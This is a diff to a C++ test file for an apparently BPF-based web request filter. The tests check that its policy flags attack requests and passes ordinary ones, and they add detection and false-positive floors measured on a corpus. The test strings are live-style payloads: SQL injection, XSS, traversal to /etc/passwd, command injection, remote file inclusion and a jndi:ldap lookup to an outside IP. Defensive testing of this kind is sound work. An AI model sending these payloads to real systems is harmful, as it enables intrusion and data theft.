@@ -4,6 +4,9 @@
 
 #include <catch2/catch.hpp>
 #include <cstring>
+#include <fstream>
+#include <map>
+#include <nlohmann/json.hpp>
 #include <random>
 
 #include "../bpf/bulwark.h"
@@ -267,26 +270,48 @@ TEST_CASE("the program reads the tick clock only when every bucket tolerates a t
               .coarse_clock == 0);
 }
 
+namespace {
+// The set that fires on a request as the kernel sees it: one 1,460-byte segment at a time
+// (later segments of a long request are body bytes without a request line).
+std::string set_of(const automaton::Automaton& a, const Policy& p, const std::string& req) {
+    for (size_t off = 0; off < req.size(); off += 1460)
+        if (auto m = automaton::scan(a, req.substr(off, 1460), p.scan_bytes))
+            return a.patterns[m - 1].set;
+    return "";
+}
+}  // namespace
+
 TEST_CASE("policies/web.json: attacks from every set match, ordinary requests do not", "[policy]") {
     auto p = load_policy(std::string(BULWARK_SOURCE_DIR) + "/policies/web.json");
-    auto dfa = automaton::compile(all_patterns(p));
-    auto set_hit = [&](const std::string& req) -> std::string {
-        auto m = automaton::scan(dfa, req, p.scan_bytes);
-        return m ? dfa.patterns[m - 1].set : "";
-    };
+    auto a = automaton::compile(all_patterns(p));
+    REQUIRE(a.tables.size() <= BW_DFA_TABLES);
+    auto set_hit = [&](const std::string& req) { return set_of(a, p, req); };
     CHECK(set_hit("GET /items?id=1%20UNION%20SELECT%20password HTTP/1.1\r\n") == "sqli");
-    CHECK(set_hit("GET /items?id=1' OR '1'='1 HTTP/1.1\r\n") == "sqli");
-    CHECK(set_hit("GET /search?q=<ScRiPt>alert(1)</script> HTTP/1.1\r\n") == "xss");
-    CHECK(set_hit("GET /static/..%2f..%2fetc/hosts HTTP/1.1\r\n") == "traversal");
-    CHECK(set_hit("GET /%2E%2E/%2E%2E/boot.ini HTTP/1.1\r\n") == "traversal");
-    CHECK(set_hit("GET /wp-login.php HTTP/1.1\r\n") == "wordpress_php");
-    CHECK(set_hit("GET /.env HTTP/1.1\r\n") == "wordpress_php");
-    CHECK(set_hit("GET /page?file=php://filter/resource=index HTTP/1.1\r\n") == "file_inclusion");
-    CHECK(set_hit("GET /download?f=/etc/passwd HTTP/1.1\r\n") == "file_inclusion");
-    for (auto ok : {"GET / HTTP/1.1\r\nHost: example\r\n\r\n", "GET /api/health HTTP/1.1\r\n",
-                    "POST /api/session/start HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}",
-                    "GET /cgi-bin/whoami HTTP/1.1\r\nUser-Agent: curl/7.88\r\n",
-                    "GET /docs/select-a-union-plan.html HTTP/1.1\r\n"})
+    CHECK(set_hit("GET /items?id=1'%20OR%20'1'%3D'1 HTTP/1.1\r\n") == "sqli");
+    CHECK(set_hit("GET /items?id=1+union/**/all/**/select+1,2 HTTP/1.1\r\n") == "sqli");
+    CHECK(set_hit("GET /search?q=%3CScRiPt%3Ealert(1)%3C/script%3E HTTP/1.1\r\n") == "xss");
+    CHECK(set_hit("GET /p?x=<img src=x onerror = alert(1)> HTTP/1.1\r\n") == "xss");
+    CHECK(set_hit("GET /static/..%2f..%2fapp/main.py HTTP/1.1\r\n") == "traversal");
+    CHECK(set_hit("GET /download?f=%2Fetc%2Fpasswd HTTP/1.1\r\n") == "file_access");
+    CHECK(set_hit("GET /page?file=php://filter/resource=index HTTP/1.1\r\n") == "php");
+    CHECK(set_hit("GET /page?inc=http://203.0.113.9/shell.txt? HTTP/1.1\r\n") == "rfi");
+    CHECK(set_hit("GET /ping?host=127.0.0.1%3Bcat+/etc/hosts HTTP/1.1\r\n") == "rce");
+    CHECK(set_hit("GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://203.0.113.9/a}\r\n\r\n") == "java");
+    CHECK(set_hit("GET / HTTP/1.1\r\nUser-Agent: sqlmap/1.7.2#stable\r\n\r\n") == "scanners");
+    CHECK(set_hit("GET /index.php.bak HTTP/1.1\r\n") == "probes");
+    CHECK(set_hit("GET /r?u=%0d%0aSet-Cookie:%20a=b HTTP/1.1\r\n") == "splitting");
+    // A body behind 600 bytes of browser headers is scanned too.
+    std::string post =
+        "POST /comment HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: " + std::string(500, 'M') +
+        "\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
+        "text=%3Csvg%2Fonload%3Dalert(1)%3E";
+    CHECK(set_hit(post) == "xss");
+    for (auto ok :
+         {"GET / HTTP/1.1\r\nHost: example\r\n\r\n", "GET /api/health HTTP/1.1\r\n",
+          "POST /api/session/start HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}",
+          "GET /docs/select-a-union-plan.html HTTP/1.1\r\n",
+          "GET /search?q=rock+%26+roll%3B+the+cat%27s+toy HTTP/1.1\r\n",
+          "POST /contact HTTP/1.1\r\n\r\nmsg=I%27d+like+to+select+one+from+your+union+shop"})
         CHECK(set_hit(ok).empty());
     CHECK(p.default_limits.requests == Rate{60, 60'000'000'000ull, 20});
     CHECK(p.suspicious_limits.requests == Rate{10, 60'000'000'000ull, 5});
@@ -294,6 +319,43 @@ TEST_CASE("policies/web.json: attacks from every set match, ordinary requests do
     REQUIRE(p.rules.size() == 2);
     CHECK(p.rules[0].match == "GET /api/health");
     CHECK(p.rules[0].exempt);
+}
+
+// Floors, not targets: each a little under what was measured when the rules were written
+// (bench/RESULTS.md), so that a rule change that loses detection or adds false positives on
+// the project's own corpus (tests/corpus/generate.py) fails here.
+TEST_CASE("policies/web.json on the project's corpus: detection and false-positive floors",
+          "[policy][corpus]") {
+    auto p = load_policy(std::string(BULWARK_SOURCE_DIR) + "/policies/web.json");
+    auto a = automaton::compile(all_patterns(p));
+    std::map<std::string, std::pair<size_t, size_t>> hits;  // class -> (matched, total)
+    for (auto file : {"attacks.jsonl", "benign.jsonl"}) {
+        std::ifstream in(std::string(BULWARK_CORPUS_DIR) + "/" + file);
+        REQUIRE(in);
+        std::string line;
+        while (std::getline(in, line)) {
+            auto j = nlohmann::json::parse(line);
+            auto& h = hits[j.at("class").get<std::string>()];
+            h.second++;
+            if (!set_of(a, p, j.at("request").get<std::string>()).empty()) h.first++;
+        }
+    }
+    const std::map<std::string, double> floor = {{"java", 0.97},     {"lfi", 0.97},  {"php", 0.95},
+                                                 {"protocol", 0.78}, {"rce", 0.95},  {"rfi", 0.90},
+                                                 {"scanner", 0.97},  {"sqli", 0.93}, {"xss", 0.96}};
+    size_t attacks = 0;
+    for (auto& [cls, min] : floor) {
+        auto [got, total] = hits[cls];
+        INFO(cls << ": " << got << " of " << total);
+        REQUIRE(total > 0);
+        CHECK(static_cast<double>(got) / static_cast<double>(total) >= min);
+        attacks += total;
+    }
+    CHECK(attacks >= 400);
+    auto [fp, benign] = hits["benign"];
+    INFO("benign dropped: " << fp << " of " << benign);
+    CHECK(benign >= 5000);
+    CHECK(static_cast<double>(fp) <= 0.001 * static_cast<double>(benign));
 }
 
 TEST_CASE("rule limits: at most 32 rules of at most 64 bytes", "[policy]") {
